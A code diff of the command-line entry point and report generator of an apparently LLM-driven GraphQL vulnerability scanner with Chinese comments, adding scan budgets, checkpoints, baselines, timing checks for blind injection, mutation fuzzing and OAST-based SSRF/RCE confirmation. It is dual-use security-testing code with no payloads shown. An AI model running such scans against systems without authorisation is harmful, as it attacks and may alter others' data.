+                    f.write(f"- LLM 调用: {usage['calls']} 次（缓存命中 {usage['cached']} 次）, "
+                            f"tokens {usage['prompt_tokens']}+{usage['completion_tokens']}, 耗时 {usage['seconds']:.1f}s\n")
+                f.write("\n")
                 f.write("## 漏洞详情\n\n")
                 for i, vuln in enumerate(vulnerabilities, 1):
                     f.write(f"### 漏洞 #{i}: {vuln['type']}\n\n")
@@ -2791,13 +7073,51 @@ def generate_report(results: list, output_file: str = None, target_url: str = ""
         # 同时自动生成 HTML 报告（如果输出文件不是 HTML）
         if not output_file.endswith('.html'):
             html_output = output_file.rsplit('.', 1)[0] + '.html' if '.' in output_file else output_file + '.html'
-            generate_html_report(results, target_url, html_output)
+            generate_html_report(results, target_url, html_output, scan_stats)
 
 
 # =============================================================================
 # 主程序
 # =============================================================================
 
+def collect_scan_stats(coverage: CoverageTracker = None, triage: TriageGate = None, sessions: dict = None,
+                       novelty: NoveltyTracker = None, clusterer: ResponseClusterer = None,
+                       baseline: BaselineEngine = None, timing: TimingVerifier = None,
+                       mutator: MutationFuzzer = None) -> dict:
+    """汇总写入报告的运行统计"""
+    scan_stats = {}
+    if coverage:
+        scan_stats['coverage'] = coverage.summary()
+    if triage:
+        scan_stats['triage'] = triage.summary()
+    if sessions:
+        scan_stats['fuzz_sessions'] = dict(sessions)
+    if novelty:
+        scan_stats['novelty'] = novelty.summary()
+    if clusterer and clusterer.clusters:
+        scan_stats['response_clusters'] = clusterer.summary()
+    if baseline:
+        scan_stats['baseline'] = baseline.summary()
+    if timing and timing.stats['suspected']:
+        scan_stats['timing'] = timing.summary()
+    if mutator and mutator.stats['mutants']:
+        scan_stats['mutation'] = mutator.summary()
+    if request_gate.stats['requests']:
+        scan_stats['request_gate'] = request_gate.summary()
+    if scan_budget.enabled:
+        scan_stats['scan_budget'] = scan_budget.summary()
+    if response_cache.enabled:
+        scan_stats['response_cache'] = response_cache.summary()
+    if apq_transport.enabled:
+        scan_stats['apq'] = dict(apq_transport.stats)
+    if llm_client.cache:
+        scan_stats['llm_cache'] = llm_client.cache.summary()
+    scan_stats['llm_usage'] = llm_client.usage.summary()
+    if len(llm_client.ollama_pool.backends) > 1:
+        scan_stats['ollama_backends'] = llm_client.ollama_pool.summary()
+    return scan_stats
+
+
 def main():
     """主函数"""
     # 禁用 SSL 警告
@@ -2845,7 +7165,80 @@ def main():
     parser.add_argument('--output', '-o', help='输出报告文件 (.json, .md 或 .html)')
     parser.add_argument('--skip-llm', action='store_true', help='跳过 LLM 分析，仅做基础扫描')
     parser.add_argument('--no-fuzz', action='store_true', help='禁用智能 AI Fuzzing（默认启用）')
-    parser.add_argument('--max-iterations', type=int, default=3, help='智能 Fuzzing 最大迭代次数 (默认: 3)')
+    parser.add_argument('--max-iterations', type=int, default=3, help='智能 Fuzzing 每个会话的基准迭代次数（自适应模式下可提前结束或追加） (默认: 3)')
+    parser.add_argument('--time-budget',
+                       help='整次扫描的时间预算，如 1200、90s、20m、1.5h；按阶段分配，到时停止测试并生成报告')
+    parser.add_argument('--request-budget', type=int,
+                       help='整次扫描最多发往目标的请求数，按阶段分配')
+    parser.add_argument('--checkpoint',
+                       help='断点文件路径（追加写入的 JSONL，默认与报告同名: <报告名>.checkpoint.jsonl）')
+    parser.add_argument('--no-checkpoint', action='store_true', help='不写入断点文件')
+    parser.add_argument('--resume', action='store_true',
+                       help='从断点文件继续上次中断的扫描（不重发已测试的 Payload）')
+    parser.add_argument('--no-baseline', action='store_true',
+                       help='不采集正常请求基线，验证器单独判断每个响应')
+    parser.add_argument('--baseline-samples', type=int, default=3,
+                       help='每个操作发送的正常请求次数 (默认: 3)')
+    parser.add_argument('--baseline-mutations', action='store_true',
+                       help='同时对 Mutation 采集基线（正常请求同样会修改目标数据，默认只采集 Query）')
+    parser.add_argument('--rce-time-threshold', type=float, default=None,
+                       help='时间盲注阈值，超出基线延迟多少秒视为可疑 (默认: 配置文件 rce_time_threshold 或 4)')
+    parser.add_argument('--timing-samples', type=int, default=2,
+                       help='确认时间类漏洞时每个延迟值的重发次数，0 表示只按阈值判断 (默认: 2)')
+    parser.add_argument('--mutation-workers', type=int, default=2,
+                       help='后台变异 Fuzzing 线程数，0 表示关闭 (默认: 2)')
+    parser.add_argument('--mutation-budget', type=int, default=200,
+                       help='每次扫描最多发送的变异 Payload 数 (默认: 200)')
+    parser.add_argument('--mutate-mutations', action='store_true',
+                       help='变异 Fuzzing 同时以 Mutation 为种子（会反复修改目标数据，默认只变异 Query）')
+    parser.add_argument('--no-cluster', action='store_true',
+                       help='关闭响应聚类，每个响应都单独分析并反馈给 LLM')
+    parser.add_argument('--cluster-distance', type=int, default=3,
+                       help='响应归入同一簇的最大 SimHash 汉明距离 (默认: 3)')
+    parser.add_argument('--no-adaptive', action='store_true',
+                       help='关闭新颖度自适应轮数，每个会话固定运行 --max-iterations 轮')
+    parser.add_argument('--extra-rounds', type=int, default=3,
+                       help='新颖度仍高时可追加的轮次总数（所有会话共享，提前结束的会话会归还剩余轮次） (默认: 3)')
+    parser.add_argument('--novelty-threshold', type=float, default=0.2,
+                       help='追加轮次所需的最低新颖度 (默认: 0.2)')
+    parser.add_argument('--max-prompt-operations', type=int, default=0,
+                       help='每轮提示词最多包含的操作数，按风险优先级选取，0 表示不限 (默认: 0)')
+    parser.add_argument('--shard-tokens', type=int, default=3000,
+                       help='每个 Schema 分片的 token 预算，超出时切分为多个提示词并发生成 (默认: 3000)')
+    parser.add_argument('--llm-concurrency', type=int, default=4,
+                       help='并发 LLM 调用数 (默认: 4)')
+    parser.add_argument('--llm-retries', type=int, default=1,
+                       help='LLM 调用出错时的重试次数（超时不重试） (默认: 1)')
+    parser.add_argument('--http-concurrency', type=int, default=4,
+                       help='同时发往目标的请求数（所有 Fuzzing 会话共享） (默认: 4)')
+    parser.add_argument('--fuzz-sessions', choices=FUZZ_SESSION_MODES, default='cluster',
+                       help='Fuzzing 会话划分: cluster 按操作类型和风险聚簇, operation 每个操作一个会话, global 整个 Schema 一个会话 (默认: cluster)')
+    parser.add_argument('--session-concurrency', type=int, default=4,
+                       help='同时运行的 Fuzzing 会话数 (默认: 4)')
+    parser.add_argument('--analysis-concurrency', type=int, default=2,
+                       help='同时进行的 AI 批量分析数 (默认: 2)')
+    parser.add_argument('--no-triage', action='store_true',
+                       help='关闭规则分诊，所有响应都交给 LLM 分析')
+    parser.add_argument('--output-mode', choices=PAYLOAD_OUTPUT_MODES, default='json',
+                       help='Payload 生成的输出格式: json 为结构化输出（失败时回退文本解析），text 为 [TYPE] 标签文本 (默认: json)')
+    parser.add_argument('--no-stream', action='store_true',
+                       help='关闭流式生成（等待完整输出后按优先级排序再测试）')
+    parser.add_argument('--ollama-url',
+                       help='Ollama 兼容后端地址，多个用逗号分隔，可用 #N 指定单个后端并发上限 (默认读取配置文件 ollama_api_url)')
+    parser.add_argument('--ollama-concurrency', type=int, default=0,
+                       help='每个 Ollama 后端的并发上限，0 为不限 (默认: 0)')
+    parser.add_argument('--ollama-keep-alive', default=LLMClient.DEFAULT_KEEP_ALIVE,
+                       help=f'Ollama 模型常驻时间 keep_alive (默认: {LLMClient.DEFAULT_KEEP_ALIVE})')
+    parser.add_argument('--llm-budget',
+                       help='LLM 用量预算，如 tokens=50000,calls=200,seconds=600；用尽后转为确定性处理')
+    parser.add_argument('--no-llm-cache', action='store_true', help='禁用 LLM 响应磁盘缓存')
+    parser.add_argument('--llm-cache-dir', help=f'LLM 响应缓存目录 (默认: {LLMResponseCache.DEFAULT_DIR})')
+    parser.add_argument('--llm-cache-types', default='generate,analyze,fix',
+                       help='启用缓存的调用类型，逗号分隔: generate,analyze,fix (默认: 全部)')
+    parser.add_argument('--llm-cache-ttl', type=int, default=7 * 86400,
+                       help='LLM 缓存有效期（秒） (默认: 604800，即 7 天)')
+    parser.add_argument('--llm-cache-size', type=int, default=100,
+                       help='LLM 缓存目录大小上限（MB），超出时按最近使用时间淘汰 (默认: 100)')
 
     # 认证参数
     parser.add_argument('--header', '-H', action='append', dest='headers',
@@ -2859,6 +7252,16 @@ def main():
     parser.add_argument('--proxy', '-x', type=str,
                        help='设置代理，支持 http/https/socks5（例如: http://127.0.0.1:8080）')
 
+    # 传输参数
+    parser.add_argument('--apq', action='store_true',
+                       help='使用 Automatic Persisted Queries 发送 Payload（先发哈希，未命中再注册）')
+    parser.add_argument('--apq-get', action='store_true',
+                       help='APQ 查询通过 GET 发送，便于经过 CDN 的目标（隐含 --apq）')
+    parser.add_argument('--response-cache-size', type=int, default=512,
+                       help='Query 响应缓存条目上限，0 表示禁用 (默认: 512)')
+    parser.add_argument('--response-cache-ttl', type=int, default=300,
+                       help='Query 响应缓存有效期（秒） (默认: 300)')
+
     args = parser.parse_args()
 
     print_banner()
@@ -2883,6 +7286,33 @@ def main():
         session_config.set_proxy(args.proxy)
         log_info(f"使用代理: {args.proxy}")
 
+    response_cache.configure(args.response_cache_size, args.response_cache_ttl)
+    llm_cache = None
+    if not args.no_llm_cache:
+        llm_cache = LLMResponseCache(
+            cache_dir=args.llm_cache_dir,
+            ttl=args.llm_cache_ttl,
+            max_bytes=args.llm_cache_size * 1024 * 1024,
+            call_types=tuple(t.strip() for t in args.llm_cache_types.split(',') if t.strip())
+        )
+    try:
+        llm_budget = LLMUsageTracker.parse_budget(args.llm_budget)
+        time_budget = parse_duration(args.time_budget) if args.time_budget else None
+    except ValueError as e:
+        parser.error(str(e))
+    scan_budget.configure(time_budget, args.request_budget)
+    if scan_budget.enabled:
+        log_info("扫描预算: " + ', '.join(filter(None, [
+            f"时间 {time_budget:g}s（报告预留 {scan_budget.report_reserve:g}s）" if time_budget else '',
+            f"请求 {args.request_budget} 个" if args.request_budget else ''])))
+    llm_client.configure(max_workers=args.llm_concurrency, timeout=args.llm_timeout, max_retries=args.llm_retries,
+                         cache=llm_cache, budget=llm_budget)
+    llm_client.usage.target = args.url
+
+    if args.apq or args.apq_get:
+        apq_transport.configure(args.apq, use_get=args.apq_get)
+        log_info(f"启用 APQ 传输{'（GET）' if args.apq_get else ''}")
+
     # 显示会话配置
     session_config.display_config()
 
@@ -2895,14 +7325,24 @@ def main():
     final_api_key = args.api_key or config.get('api_key')
     final_timeout = args.timeout or config.get('timeout') or 10
 
+    ollama_urls = [u.strip() for u in args.ollama_url.split(',') if u.strip()] if args.ollama_url else config.get('ollama_urls')
+    llm_client.configure(ollama_urls=ollama_urls, backend_concurrency=args.ollama_concurrency,
+                         keep_alive=args.ollama_keep_alive)
+    if not args.skip_llm:
+        llm_client.warm_up(final_model)
+
     # 1. 探测 GraphQL 端点
+    scan_budget.begin('discovery')
     endpoint = detect_graphql_endpoint(args.url, final_timeout)
+    scan_budget.end('discovery')
     if not endpoint:
         log_error("无法找到 GraphQL 端点，退出")
         sys.exit(1)
 
     # 2. 获取内省数据
+    scan_budget.begin('introspection')
     schema = fetch_introspection(endpoint, final_timeout)
+    scan_budget.end('introspection')
     if not schema:
         log_error("无法获取 Schema，退出")
         sys.exit(1)
@@ -2917,6 +7357,20 @@ def main():
 
     display_schema_analysis(mutations, queries, schema)
 
+    # 采集各操作的正常请求基线，验证时做差分
+    # （--skip-llm 时不会发送测试 Payload，不需要基线）
+    baseline = None
+    scan_budget.begin('baseline')
+    if not args.no_baseline and not args.skip_llm:
+        request_gate.configure(args.http_concurrency)
+        baseline = BaselineEngine(endpoint, final_timeout, args.baseline_samples, args.baseline_mutations)
+        baseline.collect(mutations, queries, args.http_concurrency)
+    scan_budget.end('baseline')
+    for phase in ScanBudget.FUZZ_PHASES:
+        scan_budget.begin(phase)
+    rce_time_threshold = args.rce_time_threshold or config.get('rce_time_threshold') or 4.0
+    timing = TimingVerifier(endpoint, final_timeout, rce_time_threshold, args.timing_samples)
+
     # 4. 使用 LLM 生成 Payload
     if not args.skip_llm and (mutations or queries):
         # 默认启用智能 Fuzzing 模式，除非使用 --no-fuzz
@@ -2924,6 +7378,32 @@ def main():
 
         if use_intelligent_fuzz:
             log_info(f"🧠 启动智能 AI Fuzzing 模式（最多 {args.max_iterations} 轮）")
+            coverage = CoverageTracker(mutations, queries)
+            triage = None if args.no_triage else TriageGate()
+            session_stats = {}
+            novelty = None if args.no_adaptive else NoveltyTracker(args.extra_rounds, args.novelty_threshold)
+            clusterer = None if args.no_cluster else ResponseClusterer(args.cluster_distance)
+            mutator = MutationFuzzer(args.mutation_workers, args.mutation_budget,
+                                     include_mutations=args.mutate_mutations) \
+                if args.mutation_workers > 0 and args.mutation_budget > 0 else None
+            if mutator is None:
+                scan_budget.end('deterministic')
+            output_file = args.output or 'report.html'
+
+            checkpoint, resume_state = None, None
+            if not args.no_checkpoint:
+                checkpoint = ScanCheckpoint(args.checkpoint or default_checkpoint_path(output_file))
+                if args.resume:
+                    resume_state = checkpoint.load()
+                    if resume_state is None:
+                        log_warning(f"断点文件不存在: {checkpoint.path}，从头开始扫描")
+                    elif resume_state['meta'].get('target') not in (None, args.url):
+                        log_error(f"断点文件属于另一个目标 ({resume_state['meta']['target']})，退出")
+                        sys.exit(1)
+                checkpoint.open({'target': args.url, 'endpoint': endpoint,
+                                 'llm_cache': llm_client.cache.cache_dir if llm_client.cache else None},
+                                resume=resume_state is not None)
+                log_info(f"断点文件: {checkpoint.path}")
             results = intelligent_fuzzing(
                 endpoint=endpoint,
                 mutations=mutations,
@@ -2933,43 +7413,80 @@ def main():
                 timeout=final_timeout,
                 max_iterations=args.max_iterations,
                 queries=queries,
-                llm_timeout=args.llm_timeout
+                llm_timeout=args.llm_timeout,
+                config=FuzzConfig(
+                    max_prompt_operations=args.max_prompt_operations,
+                    shard_tokens=args.shard_tokens,
+                    stream=not args.no_stream,
+                    output_mode=args.output_mode,
+                    http_concurrency=args.http_concurrency,
+                    analysis_concurrency=args.analysis_concurrency,
+                    session_mode=args.fuzz_sessions,
+                    session_concurrency=args.session_concurrency,
+                    coverage=coverage,
+                    triage=triage,
+                    novelty=novelty,
+                    clusterer=clusterer,
+                    checkpoint=checkpoint,
+                    resume_state=resume_state,
+                    baseline=baseline,
+                    timing=timing,
+                    mutator=mutator,
+                    session_stats=session_stats
+                )
             )
+            for phase in ScanBudget.FUZZ_PHASES:
+                scan_budget.end(phase)
+            if checkpoint:
+                checkpoint.close()
 
             # 生成报告（自动生成 HTML 报告）
-            output_file = args.output or 'report.html'
-            generate_report(results, output_file, target_url=args.url)
+            generate_report(results, output_file, target_url=args.url,
+                            scan_stats=collect_scan_stats(coverage, triage, session_stats, novelty, clusterer,
+                                                          baseline, timing, mutator))
 
         # 传统模式：单次生成和验证（使用 --no-fuzz 时）
         else:
-            llm_response = generate_payloads_with_llm(
-                mutations,
+            scheduler = PriorityScheduler(mutations, queries)
+            prompt_mutations, prompt_queries = scheduler.select_operations(args.max_prompt_operations)
+            generated = generate_payloads_sharded(
+                shard_operations(prompt_mutations, prompt_queries, args.shard_tokens, scheduler.ranked_operations()),
                 final_oast_domain,
                 final_model,
                 final_api_key,
-                queries=queries,
-                llm_timeout=args.llm_timeout
+                llm_timeout=args.llm_timeout,
+                output_mode=args.output_mode
             )
 
-            if llm_response:
+            if generated is not None:
                 log_success("LLM Payload 生成成功")
                 print(f"\n{Colors.CYAN}LLM 生成的 Payload:{Colors.RESET}")
-                print(f"{Colors.WHITE}{llm_response}{Colors.RESET}")
+                for payload_info in generated:
+                    print(f"{Colors.WHITE}[{payload_info['type']}]\n{payload_info['payload']}\n{Colors.RESET}")
 
-                # 5. 解析并验证 Payload
-                payloads = parse_payloads(llm_response)
+                # 5. 按优先级验证 Payload
+                payloads = scheduler.order_payloads(generated)
 
                 if payloads:
+                    coverage = CoverageTracker(mutations, queries)
+                    scan_budget.end('llm_rounds')
+                    scan_budget.end('deterministic')
+                    scan_budget.phase = 'verification'
                     results = run_vulnerability_verification(
                         endpoint,
                         payloads,
                         final_oast_domain,
-                        final_timeout
+                        final_timeout,
+                        coverage=coverage,
+                        baseline=baseline,
+                        timing=timing
                     )
+                    scan_budget.end('verification')
 
                     # 6. 生成报告
                     output_file = args.output or 'report.html'
-                    generate_report(results, output_file, target_url=args.url)
+                    generate_report(results, output_file, target_url=args.url,
+                                    scan_stats=collect_scan_stats(coverage, baseline=baseline, timing=timing))
                 else:
                     log_warning("无法解析 LLM 返回的 Payload")
             else:
@@ -2977,10 +7494,23 @@ def main():
     else:
         log_info("跳过 LLM 分析")
 
+    apq_transport.display_stats()
+    response_cache.display_stats()
+    if llm_client.cache:
+        llm_client.cache.display_stats()
+    llm_client.usage.display_stats()
+
     print(f"\n{Colors.GREEN}扫描完成!{Colors.RESET}")
     if final_oast_domain and final_oast_domain != 'example.oastify.com':
         print(f"{Colors.YELLOW}[提醒] 请检查 OAST 平台 ({final_oast_domain}) 确认 SSRF或RCE 漏洞{Colors.RESET}")
 
 
 if __name__ == '__main__':
-    main()
+    try:
+        main()
+    except KeyboardInterrupt:
+        llm_client.cancel()
+        log_warning("扫描已被用户中断")
+        sys.exit(130)
+    finally:
+        llm_client.shutdown()